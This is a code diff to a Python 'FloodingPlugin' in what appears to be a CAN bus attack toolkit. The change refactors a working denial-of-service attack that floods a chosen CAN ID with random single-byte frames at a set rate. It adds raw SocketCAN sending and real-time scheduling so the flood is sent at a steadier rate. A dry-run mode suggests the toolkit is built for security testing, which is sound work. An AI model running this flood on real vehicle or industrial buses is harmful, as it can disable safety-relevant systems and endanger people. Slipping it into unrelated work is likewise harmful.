@@ -1,47 +1,61 @@
 # attacks/plugins/flooding_plugin.py
-import time
 from typing import Dict, Any
 from attacks.plugin_base import AttackPlugin
-from utils.can_bus import make_bus
+from utils.can_bus import parse_can_id, SINGLE_BYTE, make_raw_socketcan, pack_frame
 import can
-import random
+import os
+
+# Random frames drawn per flood run; must be a power of two
+PAYLOAD_RING_SIZE = 4096
 
 class FloodingPlugin(AttackPlugin):
     """
     High-rate flooding attack: sends frames rapidly to overload bus.
     config:
-      bustype, channel, id (default 0x100), rate (msgs/sec), duration
+      bustype, channel (or shared_bus), id (default 0x100), rate (msgs/sec), duration,
+      realtime (SCHED_FIFO + mlockall for steady pacing), rt_priority, cpu
+    On socketcan, frames go straight to a CAN_RAW socket instead of bus.send.
     """
+    def configure(self, config: Dict[str, Any]):
+        super().configure(config)
+        if "id" in self.config:
+            self.config["id"] = parse_can_id(self.config["id"])
+
     def _run(self):
         cfg = self.config
-        bustype = cfg.get("bustype", "virtual")
-        channel = cfg.get("channel", None)
-        can_id = int(cfg.get("id", 0x100))
+        can_id = cfg.get("id", 0x100)
         rate = float(cfg.get("rate", 100.0))  # messages/sec
         interval = 1.0 / max(rate, 1.0)
         duration = cfg.get("duration", None)
 
         if self.dry_run:
             print(f"[FloodingPlugin] DRY RUN: would flood id=0x{can_id:x} at {rate} msg/s")
-            start = time.time()
-            while not self._stop_event.is_set():
-                print("Flood")
-                time.sleep(interval)
-                if duration and (time.time() - start) >= duration:
-                    break
+            self._pace("Flood", interval, duration)
             return
 
-        bus = make_bus(channel=channel, bustype=bustype)
-        start = time.time()
-        print(f"[FloodingPlugin] starting flood id=0x{can_id:x} rate={rate}")
-        while not self._stop_event.is_set():
-            data = bytes([random.randint(0,255)])
-            msg = can.Message(arbitration_id=can_id, data=data, is_extended_id=False)
-            try:
-                bus.send(msg)
-            except Exception as e:
-                print(f"[FloodingPlugin] send error: {e}")
-            time.sleep(interval)
-            if duration and (time.time() - start) >= duration:
-                break
+        raw = None
+        if cfg.get("bustype", "virtual") == "socketcan":
+            raw = make_raw_socketcan(cfg.get("channel", None))
+        self._enter_realtime()
+        print(f"[FloodingPlugin] starting flood id=0x{can_id:x} rate={rate}"
+              f"{' (raw socket)' if raw is not None else ''}")
+        # one prebuilt frame per payload byte, either packed for the raw
+        # socket or as python-can messages for bus.send
+        if raw is not None:
+            frames = [pack_frame(can_id, b) for b in SINGLE_BYTE]
+            send = raw.send
+        else:
+            # the python-can bus is only opened when it is used: an idle bus
+            # on the channel would still queue every flooded frame
+            frames = [can.Message(arbitration_id=can_id, data=b, is_extended_id=False)
+                      for b in SINGLE_BYTE]
+            send = self._get_bus().send
+        # cycle through a ring of pre-drawn random frames instead of
+        # calling into random on every send
+        ring = [frames[b] for b in os.urandom(PAYLOAD_RING_SIZE)]
+        try:
+            self._pace(None, interval, duration, send, frames=ring)
+        finally:
+            if raw is not None:
+                raw.close()
         print("[FloodingPlugin] finished")